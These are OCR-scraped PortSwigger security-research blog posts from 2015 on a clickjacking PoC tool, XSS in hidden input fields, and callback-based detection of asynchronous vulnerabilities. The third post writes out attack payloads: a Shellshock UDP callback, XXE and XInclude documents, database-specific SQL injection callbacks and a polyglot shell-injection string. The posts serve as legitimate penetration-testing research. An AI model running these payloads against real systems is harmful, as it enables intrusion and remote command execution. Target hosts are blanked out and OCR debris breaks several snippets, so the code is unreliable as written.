Wednesday, December 9, 2015

Burp Clickbandit: A JavaScript based clickjacking PoC generator

Clickjacking vulnerabilities are endemic throughout the web and really quite serious in the right circumstances. Manually crafting a proof of concept attack can mean laborious hours of offset-tweaking, so we’ve just released Burp Clickbandit, a point-and-click tool for generating clickjacking attacks. When you have found a web page that may be vulnerable to clickjacking, you can use Burp Clickbandit to quickly craft an attack, to prove that the vulnerability can be successfully exploited. A few related tools alreadyexist, but Burp Clickbandit has an array of features that hopefully make it stand out:
  • Supports multi-click attacks
  • Written in pure JavaScript, and trivial to deploy
  • Supports transparency, clearly showing the attack mechanics
  • Works on most websites!
As of today's Burp release, you can grab a copy of Clickbandit from within Burp, via the Burp menu. To deploy it, install it as a bookmarklet or simply paste it into your browser's developer console. It works by detecting the HTML elements you click and using their dimensions and position to generatethe relevant click area. If the click lands in an iframe or flash object, it instead uses the x and y coordinates of the mouse, and zooms into the object to provide the click area. This is because the DOM element will be the entire frame and so the position will be incorrect.

In order to launch multi-click attacks, it’s critical to be able to detect when the user has clicked so you know when to move the iframe to the next clicktarget. To detect clicks cross domain we use the blur event on the current window; this fires when you click inside the iframe. We use an onmouseover event on the iframe and a flag to ensure the click happens inside the frame boundary. This isn’t perfect because a right click on the iframe will also trigger the blur event but there is no way around that due to same origin policy. Here is the relevant code snippet:window.addEventListener("blur", function() {
    if (window.clickbandit.mouseover) {
        setTimeout(function() {
        }, 1000);
}, false);
document.getElementById("parentFrame").addEventListener("mouseover", function() {
    window.clickbandit.mouseover = true;
}, false);
document.getElementById("parentFrame").addEventListener("mouseout", function() {
    window.clickbandit.mouseover = false;
}, false);
We use a timeout because the click won’t be accurately detected unless there is a delay, and we also focus a hidden input field after each click to enable multi-click detection since the blur event won’t be fired unless the focus is switched from the iframe to the parent document.

Using Clickbandit

Record mode

Burp Clickbandit runs in your browser using JavaScript. It works on all modern browsers except for Internet Explorer and Microsoft Edge. To run Clickbandit,use the following steps or refer to the Burp documentation.
  1. In Burp, go to the Burp menu and select "Burp Clickbandit".
  2. On the dialog that opens, click the "Copy Clickbandit to clipboard" button. This will copy the Clickbandit script to your clipboard.
  3. In your browser, visit the web page that you want to test, in the usual way.
  4. In your browser, open the web developer console. This might also be called "developer tools" or "JavaScript console".
  5. Paste the Clickbandit script into the web developer console, and press enter.The Burp Clickbandit banner will appear at the top of the browser window and the original page will be reloaded within a frame, ready for the attack to be performed. Then simply execute the sequence of clicks you want your victim to perform. If you want to prevent the action being performed during recording, use the "disable click actions" checkbox. When you’ve finished recording, click the "finish" button. This will then display your attack for review.

Review mode

In this view you can adjust the zoom factor using the plus and minus buttons. You can toggle transparency allowing you to see the site underneath the button. You can also change the iframe position using the arrow keys. Reset allows you to restore the original attack removing any modifications you may have made to the zoom factor or position. Click the "save" button to download your proof of concept attack and save it locally. When the clickjacking attack is complete (after the victim has clicked the last link) the message “you’ve been clickjacked” appears. You can alter this message in the code to suit your needs.

You've been clickjacked message

Hope you like the tool and any comments or feedback are welcome. Happy clickjacking! @garethheyesMonday, November 16, 2015

XSS in Hidden Input Fields

At PortSwigger, we regularly run pre-release builds of Burp Suite against an internal testbed of popular web applications to make sure it's behaving properly. Whilst doing this recently, Liam found a Cross-Site Scripting (XSS) vulnerability in [REDACTED], inside a hidden input element:
<input type="hidden" name="redacted" value="default" injection="xss" />
XSS in hidden inputs is frequently very difficult to exploit because typical JavaScript events like onmouseover and onfocus can't be triggered due to the element being invisible.

I decided to investigate further to see if it was possible to exploit this on a modern browser. I tried a bunch of stuff like autofocus, CSS tricks and other stuff. Eventually I thought about access keys and wondered if the onclick event would be called on the hidden input when it activated via an access key. It most certainly does on Firefox! This means we can execute an XSS payload inside a hidden attribute, provided you can persuade the victim into pressing the key combination. On Firefox Windows/Linuxthe key combination is ALT+SHIFT+X and on OS X it is CTRL+ALT+X. You can specify a different key combination using a different key in the access key attribute. Here is the vector:
<input type="hidden" accesskey="X" onclick="alert(1)">
This vector isn't ideal because it involves some user interaction, but it's vastly better than expression() which only works on IE<=9.

Note: We've reported thisvulnerability to the application's security team. However, they haven't responded in any way after 12 days and a couple of emails. We wanted to make people aware of this particular technique, but we won't be naming thevulnerable application concerned until a patch is available.

This isn't the first time that Burp Scanner has unearthed a vulnerability in an extremely popular web application, and we doubt it will be the last.

Mind those access keys... - @garethheyes

Tuesday, September 15, 2015

Hunting Asynchronous Vulnerabilities

This is mildly abridged (and less vendor-neutral) writeup of the core technical content from my Hunting Asynchronous Vulnerabilities presentation from 44Con and BSides Manchester. You can watch a recording on youtube and download the slides here.

In blackbox tests vulnerabilities can lurk out of sight in backend functions and background threads. Issues with no visible symptoms, like blind second order SQL injection and shell command injection via nightly cronjobs or asynchronous logging functions, can easily survive repeated pentests and arrive in production unfixed.

The only way to reliably hunt these down is using exploit-induced callbacks. That is, for each potential vulnerability X send an exploit that will ping your server if it fires, then patiently listen. Since the release of Burp Collaborator, we have been able to use callback based vulnerability hunting techniques in Burp Scanner. This post details some of the ongoing research I've been doing on callback based vulnerability hunting.

The asynchronous problem

Many asynchronous vulnerabilities are invisible. That is, there's no way to:
  • Trigger error messages
  • Cause differences in application output
  • Cause detectable time delays
This makes them inherently difficult to find. Please note that invisible vulnerabilities should not be confused with 'blind' SQL injection; with blind SQL injection an attacker can typically cause a noticeable time delay ordifference in page output.

Invisible vulnerabilities can be roughly grouped into three types:
  • Server-side vulnerabilities in processing that occurs in a background thread, such as a shell command injection in a nightly cronjob or SQLi in a queued transaction. Here, a crafted payload might trigger a time delay, but the delay would only affect a background thread so it wouldn't be detectable.
  • Blind vulnerabilities that are triggered by a secondary event, such as blind XSS and some second order SQLi. Detection of these issues using normal techniques is possible but often tricky and error-prone.
  • Vulnerabilities where there is no way to cause a difference in application output, and the technology doesn't support anything that can be used to cause a reliable time delay. For example, blind XXE or XPath injection.

The asynchronous solution

Asynchronous vulnerabilities can be found by supplying a payload that triggers a callback - an out-of-band connection from the vulnerable application to an attacker-controlled listener.

For example, the following payload was observed being used to detect servers vulnerable to Shellshock:
() { :;}; echo 1 > /dev/udp/
This payload tries to exploit the Shellshock vulnerability to make the targeted system send a UDP packet to port 53 of If receives such a packet, that indicates that the connecting server is vulnerable and they can follow up with further exploits.

Many common vulnerability classes can be identified by delivering an exploit that triggers a callback, making it possible to find these vulnerabilities without relying on any application output. Burp Suiteuses the Burp Collaborator server as a receiver for these external interactions:

DNS is the ideal protocol for triggering callbacks, as it's rarely filtered outbound on networks and also underpins many other network protocols.

Callback development

Crafting an exploit for a typical vulnerability is an iterative process; based on application feedbackan attacker can start with a generic fuzz string and slowly refine it into a working payload. Creating an effective callback-issuing payload can be difficult because callback exploits fail hard - if the exploit fails, you get no indication that the application is vulnerable.

As a result, the quality of callback exploits is crucial - they should work without modification in as many situations as possible. An ideal callback exploit will work regardless of the vulnerable software implementation, underlying operating system, and the context it appears in, and be resistant to common filters.

XML vulnerabilities

A key way to achieve environment insensitivity is to use features of the vulnerability itself to issue the callback. For example, the following XML document uses six different XML vulnerabilities/features to attempt to issue a callback.
<?xml version="1.0" encoding="utf-8"?>
<?xml-stylesheet type="text/xml" href=""?>
<!DOCTYPE root PUBLIC "-//A/B/EN" [
  <!ENTITY % remote SYSTEM "">
  <!ENTITY xxe SYSTEM "">
  <x xmlns:xi=""><xi:include
    href="" /></x>
  <y xmlns=http://a.b/
The final two payloads here - XInclude and schemaLocation - are particularly powerful because they don't require complete control over the XML document to work. This means that they can be used to find blind XML Injection, a vulnerability that is otherwise extremely difficult to identify.

SQL Injection

SQL itself doesn't define any statements that we can use to issue a callback, so we'll need to look at each popular SQL database implementation individually.


PostgreSQL is easy to trigger a callback from, provided the database user has sufficient privileges. The copy command can be used to invoke arbitrary shell commands:
copy (select '') to program 'nslookup'
I've used nslookup here because it's available on both windows and *nix systems by default. Ping is an obvious alternative, but when invoked on Linux it never exits and thus may hang the executing thread.

MySQL andSQLite3

On Windows, most filesystem functions can be fed a UNC path - a special type of file path that can reference a resource on an external server, and thus triggers a DNS lookup. This means that on Windows almost all file I/O functions can be used to trigger a callback.

SQLite3 has two useful features that can be used to cause a callback via a UNC path:
;attach database '//' as 'z'-- -

(SELECT load_extension('//foo'))
Neither is perfect - the former requires batched queries, and the latter relies on load_extension being enabled.

MySQL has a couple of similar functions, neither of which require batched queries:



Microsoft SQL Server offers quite a few ways to trigger pingbacks:
SELECT * FROM openrowset('SQLNCLI', '';'a',   'select 1 from dual')
(Requires 'ad hoc distributed queries')EXEC master.dbo.xp_fileexist '\\\\\\foo'
(Requires sysadmin privileges)
BULK INSERT mytable FROM '\\\\$file'
(Requires bulk insert privileges)
EXEC master.dbo.xp_dirtree '\\\\\\foo'
(Ideal - requires sysadmin privileges but checks privileges after DNS lookup)

Oracle SQL

Oracle offers a huge number of ways to trigger a callback: UTL_HTTP, UTL_TCP, UTL_SMTP, UTL_INADDR, UTL_FILE…

If you like you can use UTL_SMTP to write a SQL injection payload that sends you an email describing the vulnerability when executed. However, they all require assorted privileges that we might not have.

Fortunately, there's another option. Oracle has built-in XML parsing functionality, which can be invoked by low privilege users. And, yes, recently Khai Tran of NetSPI found that Oracle is vulnerable to XXE Injection. This means that we can chain our SQL injection with an XXE payload to trigger a callback with no privileges:
SELECT extractvalue(xmltype('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE root [ <!ENTITY %  remote SYSTEM ""> %remote;]>'),'/l')

Write-based callbacks

As you've probably noticed by this point, non-Windows systems are quite a lot harder to trigger callbacks on because the core filesystem APIs don't support UNC paths. However, we may be able to indirectly trigger a callback via a 'write a file' function.

The obvious way to do this is to write a web shell inside the webroot. However, this isn't ideal from an automated scanner's perspective - we don't know where the webroot is so we'd have to spray the filesystem with shells, whichclients might not be too happy about.

A less harmful alternative approach is to exploit mailspools / maildrops. Some mailers have a folder where any correctly formatted files will be periodically grabbed and emailed out. This approach looked promising at first, but I couldn't get it to work on any major *nix mailers without root privileges, making it pretty much useless.

There's one other option - we can try to tweak a config file. Although MySQL's SELECT INTO OUTFILE can't be used to overwrite files, MySQL itself uses a file loading strategy that means we can potentially override options without actually need to overwrite an existing file. A file written to $MYSQL_HOME/my.cnf or ~/.my.cnf will take precedence over the global /etc/mysql/my.cnf file. We can trigger a callback when theserver is next restarted by overriding the bind-address option with our hostname. There is a slight catch - the server will then try to bind to that interface and probably fail to start. We can mitigate this by responding to the DNS lookup with, making the server bind to all available interfaces. However, this causes other issues which are left to the reader's imagination.

Shell command injectionTriggering a callback when we have arbitrary code execution is really easy. That said, we don't necessarily know what context our string is appearing in, or even what the underlying operating system is. It would be ideal to craft a payload that worked in every plausible context:
bash   :$ command arg1 input arg3
bash ":$ command arg1 "input" arg3
base  ':$ command arg1 'input' arg3
win  : >command arg1 input arg3
win ": >command arg1 "input" arg3
By creating a test page that executed the supplied string in each of the five contexts, and iteratively tweaking it to improve coverage, I developed the following payload:
bash  : &nslookup'\"`0&nslookup`'
bash ": &nslookup'\"`0&nslookup`'
bash ': &nslookup'\"`0&nslookup`'
win   : &nslookup'\"`0&nslookup`'
win  ": &nslookup'\"`0&nslookup`'

Key: ignored context-breakout dud-statement injected-command ignored

Cross-Site Scripting

As with shell command injection, it's easy to use XSS to trigger a pingback, but we don't know what the syntax surrounding our input will be - we might be landing inside a quoted attribute, or a <script> block, etc. We also don't know which characters may be filtered or encoded.

Gareth Heyes crafted a superb payload to work in most common contexts. First it breaks out of script context and opens an SVG event handler:
Then it breaks out of single-quoted attribute, double-quoted attribute, and single/double quoted JavaScript literal contexts:
